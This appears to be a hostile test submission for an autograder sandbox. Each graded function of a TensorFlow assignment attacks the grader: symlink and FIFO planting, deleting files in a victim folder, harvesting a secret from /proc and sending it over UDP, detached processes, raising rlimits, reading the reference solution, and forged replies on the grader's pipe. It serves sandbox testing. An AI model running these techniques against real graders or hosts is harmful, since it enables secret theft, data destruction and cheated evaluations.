# A hostile submission: one attack per graded function. A function returns the
# right answer only when the sandbox held against its attack, so a PASS in the
# report is the sandbox holding; the three forged replies must fail alone.
# The test fills in VICTIM (a folder of the test's), SECRET (a value in the
# grader's environment), UDP_PORT (a port the test listens on) and MARKER.
import ctypes
import importlib
import os
import resource
import struct
import subprocess
import sys
import time

import numpy as np
import tensorflow as tf

VICTIM = "@VICTIM@"
SECRET = "@SECRET@"
UDP_PORT = "@UDP_PORT@"  # a string: top-level code other than plain values does not run
MARKER = "@MARKER@"


def _writable_folders():
    found = []
    for folder in {os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/tmp"}:
        if folder and os.access(folder, os.W_OK):
            found.append(folder)
    return found


# GRADED FUNCTION: linear_function
def linear_function():
    # Plant symlinks to the victim and FIFOs under every name the grader ever used, everywhere it can write.
    for folder in _writable_folders():
        for name in ("results", "inputs", "run", "home", "tmp", "result-1.npz", "result-2.npz", "input-0.npy", "input-1.npy"):
            path = os.path.join(folder, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    os.rename(path, path + ".moved")
                os.symlink(VICTIM if "." not in name else os.path.join(VICTIM, "grades.csv"), path)
            except OSError:
                pass
        try:
            os.mkfifo(os.path.join(folder, "input-2.npy"))
        except OSError:
            pass
    try:
        names = os.listdir(VICTIM)
    except OSError:
        names = []  # the victim folder itself: out of view
    for name in names:
        try:
            os.unlink(os.path.join(VICTIM, name))
        except OSError:
            pass
    np.random.seed(1)
    X = tf.constant(np.random.randn(3, 1), name="X")
    W = tf.constant(np.random.randn(4, 3), name="W")
    b = tf.constant(np.random.randn(4, 1), name="b")
    with tf.Session() as sess:
        return sess.run(tf.add(tf.matmul(W, X), b))


def _find_secret():
    texts = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for leaf in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{leaf}", "rb") as stream:
                        texts.append(stream.read().decode("latin-1"))
                except OSError:
                    pass
    return [text for text in texts if SECRET in text]


# GRADED FUNCTION: sigmoid
def sigmoid(z):
    leaks = _find_secret()
    import _socket  # below Python's socket module, which a sandbox might patch

    sent = 0
    for payload in [b"hello"] + [leak.encode("latin-1")[:1000] for leak in leaks]:
        try:
            udp = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
            udp.sendto(payload, ("127.0.0.1", int(UDP_PORT)))
            sent += 1
        except OSError:
            pass
    try:  # a raw socket, as root could open one without capabilities dropped
        raw = _socket.socket(_socket.AF_INET, _socket.SOCK_RAW, 1)
        raw.sendto(b"leak", ("127.0.0.1", 0))
        leaks.append("a raw ICMP socket opened and sent")
    except OSError:
        pass
    if leaks:
        raise RuntimeError("leaked: " + leaks[0][:300])
    return 1 / (1 + np.exp(-np.float64(z)))


# GRADED FUNCTION: cost
def cost(logits, labels):
    # Processes that leave: a new session, a double fork; both must be gone after grading.
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARKER + "-setsid"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", MARKER + "-double-fork"])
        os._exit(0)
    z = np.asarray(logits, dtype=np.float64)
    y = np.asarray(labels, dtype=np.float64)
    return np.maximum(z, 0) - z * y + np.log1p(np.exp(-np.abs(z)))


# GRADED FUNCTION: one_hot_matrix
def one_hot_matrix(labels, C):
    raised = []
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            raised.append(limit)
        except (ValueError, OSError):
            pass
    if raised:
        return np.zeros((C, len(labels)))
    return np.eye(C)[np.asarray(labels)].T


# GRADED FUNCTION: ones
def ones(shape):
    # The reference: imported, reloaded, or read as a file.
    found = []
    for name in ("tfsigns.assignment", "tfsigns.keras_model", "tfsigns.tf2"):
        try:
            module = importlib.import_module(name)
            importlib.reload(module)
            found.append(name)
        except BaseException:
            pass
    for root in set(sys.path + ["/work", "/root", "/home", "/opt", "/usr/local"]):
        for folder, _, files in os.walk(root or "."):
            if "assignment.py" in files and os.path.basename(folder) == "tfsigns":
                try:
                    with open(os.path.join(folder, "assignment.py")) as stream:
                        stream.read(10)
                    found.append(folder)
                except OSError:
                    pass
    if found:
        raise RuntimeError(f"the reference is readable: {found}")
    return np.ones(shape)


def _forge(header):
    """Write a forged reply frame straight onto the grader's reply pipe, then wait to be killed."""
    reply_fd = int(sys.argv[-1])
    os.write(reply_fd, struct.pack(">II", len(header), 0) + header)
    time.sleep(60)


# GRADED FUNCTION: create_placeholders
def create_placeholders(n_x, n_y):
    _forge(b"[" * 100000 + b"]" * 100000)


# GRADED FUNCTION: initialize_parameters
def initialize_parameters():
    _forge(b'{"id": ' + b"7" * 5000 + b', "status": "returned"}')


def _call_id():
    """The id of the call being answered, read from the grader's own frames above this one."""
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


# GRADED FUNCTION: forward_propagation
def forward_propagation(X, parameters):
    import json

    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + b"{'descr': '<f8', 'fortran_order': False, 'shape': (140737488355328,), }".ljust(117) + b"\n"
    header = json.dumps({"id": _call_id(), "status": "returned", "items": {"value": {"kind": "array", "shape": [140737488355328], "dtype": "float64"}}, "arrays": {"value": {"npy": 0}}}).encode()
    reply_fd = int(sys.argv[-1])
    os.write(reply_fd, struct.pack(">II", len(header), 1) + header + struct.pack(">Q", len(npy)) + npy)
    time.sleep(60)


# GRADED FUNCTION: compute_cost
def compute_cost(Z3, Y):
    # Correct: it must still earn its points after three forged replies.
    logits = tf.transpose(Z3)
    labels = tf.transpose(Y)
    return tf.reduce_mean(tf.nn.softmax_cross_entropy_with_logits(logits=logits, labels=labels))
